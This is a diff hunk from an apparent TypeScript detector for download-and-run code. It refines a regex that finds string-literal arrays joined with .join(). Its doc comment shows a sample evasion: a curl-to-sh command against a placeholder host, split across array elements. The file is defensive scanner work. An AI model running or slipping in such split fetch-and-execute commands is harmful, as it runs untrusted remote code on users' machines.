@@ -139,7 +139,7 @@ function downloadedAndRun(lines: readonly string[], facts: CodeFacts, powershell
 }
 
 /** An array of string literals over one or more lines, joined where it is written (`["u=https://host/x.sh;", "(curl \"$u\" | sh) ||"].join(" ")`). */
-const JOINED_ARRAY = /\[\s*((?:(?:"(?:[^"\\\n]|\\.)*"|'(?:[^'\\\n]|\\.)*')\s*,?\s*)+)\]\s*\.join\s*(?:\(\s*(?:"([^"\n]{0,8})"|'([^'\n]{0,8})')?\s*\))?/g;
+const JOINED_ARRAY = /\[\s*((?:(?:"(?:[^"\\\n]|\\.)*"|'(?:[^'\\\n]|\\.)*')\s*(?:,\s*)?)+)\]\s*\.join\s*(?:\(\s*(?:"([^"\n]{0,8})"|'([^'\n]{0,8})')?\s*\))?/g;
 
 /** The strings a program builds by joining an array of literals, with the line the array starts on. */
 export function joinedStringArrays(text: string): { text: string; line: number }[] {
